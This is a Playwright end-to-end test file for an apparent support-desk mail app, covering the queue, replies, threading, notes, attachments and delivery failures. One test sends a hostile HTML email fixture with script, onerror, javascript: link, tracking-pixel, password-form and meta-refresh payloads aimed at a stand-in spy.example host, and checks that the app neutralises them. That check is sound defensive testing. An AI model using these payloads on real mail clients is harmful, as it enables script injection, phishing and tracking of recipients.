import { readFile } from 'node:fs/promises';
import type { Browser } from 'playwright-core';
import { DEMO_MAILBOX } from '../../apps/simulator/src';
import { until } from '../support/product';
import { headerOf, type SimulatedMail } from '../support/simulated-provider';
import { AgentPage } from './agent-page';
import { startChromium } from './chromium';
import { Demo, writerOf } from './demo';

let demo: Demo;
let browser: Browser;
let ada: AgentPage;
let letters: SimulatedMail[];

beforeAll(async () => {
  [demo, browser] = await Promise.all([Demo.start(), startChromium()]);
  await demo.mailAlone();
  letters = await demo.letters();
  ada = await AgentPage.open(browser, demo.url);
});
afterAll(async () => {
  await browser?.close();
  await demo?.stop();
});
afterEach(() => ada.check());

/** Newest mail in a customer's mailbox with these words. */
function received(address: string, words: string): Promise<SimulatedMail> {
  return until(`${address} reads “${words}”`, async () =>
    (await demo.provider.mailbox(address)).inbox.findLast((mail) => mail.text?.includes(words)),
  );
}

const answer = 'Bonjour Madame, le technicien passe mardi à 14 h. Vous n’avez rien à refaire.';
let helene: string;
const PIXEL = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);

it('lets one in by a card, and shows places and waits, but not who waits or about what', async () => {
  await ada.enterAs('Ada');
  await ada.places.first().waitFor();

  // one of them wrote twice and waits once
  expect(await ada.places.count()).toBe(letters.length - 1);
  expect(await ada.places.first().innerText()).toMatch(/^1\s+7\s*h\s*\d+/);
  const page = await ada.page.content();
  const secrets = letters.flatMap((letter) => [...writerOf(letter).name.split(' '), letter.subject!]);
  expect(secrets.length).toBeGreaterThan(40);
  expect(secrets.filter((secret) => page.includes(secret))).toEqual([]);
});

it('gives the oldest at the press of N, and shows all they wrote', async () => {
  await ada.takeNext();

  expect(await ada.subject.innerText()).toBe(letters[0]!.subject);
  helene = writerOf(letters[0]!).address;
  await ada.message(/Numéro de série : 7731-08842/).waitFor();
  await ada.message(/Jeudi ne convient plus/).waitFor();
  expect(await ada.messages.count()).toBe(2);
});

it('sends by Ctrl+Enter, tells when it is sent, and brings the answer into the customer’s own thread', async () => {
  await ada.reply(answer);

  await ada.message(answer).getByText('Sent', { exact: true }).waitFor();
  const mail = await received(helene, answer);
  const raw = await demo.provider.raw(helene, 'INBOX', mail.uid);
  const theirs = letters.filter((letter) => writerOf(letter).address === helene).map(({ messageId }) => messageId);
  expect(theirs).toHaveLength(2);
  expect(headerOf(raw, 'In-Reply-To')).toBe(theirs[1]);
  expect(headerOf(raw, 'References')!.split(/\s+/)).toEqual(expect.arrayContaining(theirs));
  expect(mail.subject).toMatch(/^Re: Ma laveuse/);
  expect((await demo.provider.mailbox(helene)).inbox).toHaveLength(1);
});

it('shows what the customer writes back within two seconds, in the open conversation and in the queue', async () => {
  const karim = await AgentPage.open(browser, demo.url);
  await karim.enterAs('Karim');
  await karim.places.first().waitFor();
  const waiting = await karim.places.count();
  const { messageId } = await received(helene, answer);
  const seconds: number[] = [];
  for (const words of ['Mardi à 14 h convient.', 'Faut-il vider la machine ?', 'Et la facture ?']) {
    await demo.provider.write({ from: { address: helene }, inReplyTo: messageId, text: words });
    const written = performance.now();
    await ada.message(words).waitFor();
    seconds.push((performance.now() - written) / 1_000);
  }
  await until('she waits again, last of all', async () => (await karim.places.count()) === waiting + 1);

  console.log(`on the page after ${seconds.map((each) => each.toFixed(2)).join(', ')} s`);
  expect(seconds.sort((a, b) => a - b)[1]).toBeLessThan(2);
  expect(await karim.places.last().innerText()).toMatch(/<\s1\smin/);
  await karim.close();
});

it('keeps a note among colleagues', async () => {
  await ada.page.keyboard.press('m');
  await ada.focused(ada.noteField);
  await ada.page.keyboard.insertText('Facture vue avec la comptabilité.');
  await ada.page.keyboard.press('Control+Enter');

  await ada.message('Facture vue avec la comptabilité.').getByText('Only your team sees this').waitFor();
  await ada.page.reload();
  await until(
    'it stands there once',
    async () => (await ada.message('Facture vue avec la comptabilité.').count()) === 1,
  );
  const { inbox } = await demo.provider.mailbox(helene);
  expect(inbox).toHaveLength(1);
});

it('puts a wait that is given back where it was', async () => {
  await ada.takeNext();
  const subject = await ada.subject.innerText();
  expect(subject).toBe(letters[1]!.subject);

  await ada.page.keyboard.press('b');
  await ada.page.getByRole('menuitem', { name: 'I do not know the subject' }).press('Enter');

  await ada.page.waitForURL('**/queue');
  await ada.page.getByText('Given back. It keeps its place in the queue.').first().waitFor();
  const karim = await demo.person('SUPERVISOR');
  const { queue } = await karim.call<{ queue: { oldestWaitingSince: string } }>('{ queue { oldestWaitingSince } }');
  expect(queue.oldestWaitingSince.slice(0, 19)).toBe(letters[1]!.internalDate.slice(0, 19));
});

it('ends a wait that needs no reply, and takes that back at the press of Z', async () => {
  await ada.takeNext();
  const [reference, subject] = [ada.reference, await ada.subject.innerText()];
  await ada.page.keyboard.press('e');
  await ada.page.getByRole('menuitem', { name: 'Only thanks' }).press('Enter');
  await ada.page.waitForURL('**/queue');
  await ada.page.getByText(`${reference} needs no reply.`).first().waitFor();

  await ada.page.keyboard.press('z');

  await ada.page.waitForURL(`**/c/${reference}`);
  expect(await ada.subject.innerText()).toBe(subject);
  await ada.button('No reply needed').waitFor();
});

it('says why a reply did not leave, in the words of the other server, and sends it once when asked again', async () => {
  const customer = writerOf(letters.find(({ subject }) => subject === letters[2]!.subject)!).address;
  await demo.provider.faults({ rcpt: { code: 550, text: '5.1.1 No such person here' } });
  await ada.reply('Le permis est validé à la main.');

  const message = ada.message('Le permis est validé à la main.');
  await message.getByText('Not sent', { exact: true }).waitFor();
  await message.getByText('What the server said').click();
  await message.getByText('5.1.1 No such person here').waitFor();
  await demo.provider.faults({});
  await message.getByRole('button', { name: 'Try again' }).click();

  await message.getByText('Sent', { exact: true }).waitFor();
  expect(await message.getByText('Not sent').count()).toBe(0);
  await received(customer, 'Le permis est validé');
  const copies = (await demo.provider.mailbox(customer)).inbox.filter((mail) => mail.text?.includes('Le permis'));
  expect(copies).toHaveLength(1);
});

it('takes files to the customer and from them, byte for byte', async () => {
  const bytes = Buffer.from(Array.from({ length: 5_000 }, (_, i) => i % 251));
  const customer = writerOf(letters[2]!).address;
  await ada.page
    .locator('input[type=file]')
    .setInputFiles({ name: 'étiquette.pdf', mimeType: 'application/pdf', buffer: bytes });
  await ada.button('Remove étiquette.pdf').waitFor();
  await ada.page.getByRole('progressbar').waitFor({ state: 'detached' });
  await ada.reply('Voici l’étiquette.');
  await ada.message('Voici l’étiquette.').getByText('Sent', { exact: true }).waitFor();

  const mail = await received(customer, 'Voici l’étiquette.');
  const files = (mail as unknown as { attachments: object[] }).attachments;
  expect(files).toMatchObject([{ filename: 'étiquette.pdf', mimeType: 'application/pdf', size: bytes.length }]);
  const photo = { filename: 'reçu.png', contentType: 'image/png', base64: bytes.toString('base64') };
  await demo.provider.write({
    from: { address: customer },
    inReplyTo: mail.messageId,
    text: 'Merci.',
    attachments: [photo],
  });
  const link = ada.message('Merci.').getByRole('link', { name: /reçu\.png/ });
  const [download] = await Promise.all([ada.page.waitForEvent('download'), link.click()]);
  expect(download.suggestedFilename()).toBe('reçu.png');
  expect(await readFile(await download.path())).toEqual(bytes);
});

it('shows a mail as it was drawn, but runs nothing in it and asks nobody for its pictures', async () => {
  const customer = writerOf(letters[2]!).address;
  await demo.provider.write({
    from: { address: customer },
    to: DEMO_MAILBOX,
    inReplyTo: (await received(customer, 'Voici l’étiquette.')).messageId,
    quoted: false,
    text: 'Colis 7 et 8',
    html: `<table bgcolor="#eee"><tr><td>Colis 7</td><td style="background:url(https://spy.example/td.png)">Colis 8</td></tr></table>
      <img src="https://spy.example/pixel.png" width="1" height="1" alt="">
      <img src="x" onerror="top.document.title='owned'; document.title='owned'">
      <link rel="stylesheet" href="https://spy.example/style.css"><style>@import url(https://spy.example/import.css);</style>
      <script>top.document.title = 'owned'; fetch('https://spy.example/script')</script>
      <iframe src="https://spy.example/frame"></iframe><object data="https://spy.example/object"></object>
      <form action="https://spy.example/form"><input name="password" autofocus><button>Go</button></form>
      <a href="javascript:top.document.title='owned'">lien</a><base href="https://spy.example/">
      <meta http-equiv="refresh" content="0;url=https://spy.example/refresh">`,
  });
  const frame = ada.page.getByTitle('Mail as its sender formatted it').last();
  const mail = frame.contentFrame();
  await mail.getByRole('cell', { name: 'Colis 8' }).waitFor();

  expect(await frame.getAttribute('sandbox')).not.toMatch(/allow-scripts|allow-forms|allow-top-navigation/);
  expect(
    await mail.locator('script, iframe, object, form, input, link, base[href], meta[http-equiv=refresh]').count(),
  ).toBe(0);
  expect(await mail.locator('a[href^="javascript:"]').count()).toBe(0);
  expect(await ada.page.title()).not.toContain('owned');
  expect(ada.strays).toEqual([]);
});

it('shows the pictures of a mail to one who asks for them', async () => {
  const asked: string[] = [];
  await ada.page.route('https://spy.example/**', (route) => {
    asked.push(route.request().url());
    return route.fulfill({ contentType: 'image/png', body: PIXEL });
  });

  await ada.button('Show images').click();

  await until('the picture is asked for', () => asked.length > 0, 5_000);
  expect(new Set(asked)).toEqual(new Set(['https://spy.example/pixel.png']));
});

it('says when nobody can know whether a reply left, sends no second one by itself, and believes the person who knows', async () => {
  const [ours, customer] = ['orders@demo.evenhand.test', 'noor@customers.test'];
  await demo.emptyQueue(await demo.person('SUPERVISOR'));
  await demo.connectMailboxWithoutCopies(ours);
  await demo.provider.write({ from: { address: customer }, to: ours, subject: 'Order 9', text: 'Has it left?' });
  await ada.page.goto('/queue');
  await ada.places.first().waitFor();
  await ada.takeNext();
  await demo.provider.faults({ cutAfterData: 1 });
  await ada.reply('It has left today.');

  const message = ada.message('It has left today.');
  // for a minute a copy may still come up in Sent
  await message.getByText('Delivery not confirmed', { exact: true }).waitFor({ timeout: 90_000 });
  await received(customer, 'It has left today.');
  await message.getByRole('button', { name: 'Mark as sent' }).click();

  await message.getByText('Sent', { exact: true }).waitFor();
  expect(await message.getByText('Delivery not confirmed').count()).toBe(0);
  expect((await demo.provider.mailbox(customer)).inbox).toHaveLength(1);
}, 120_000);
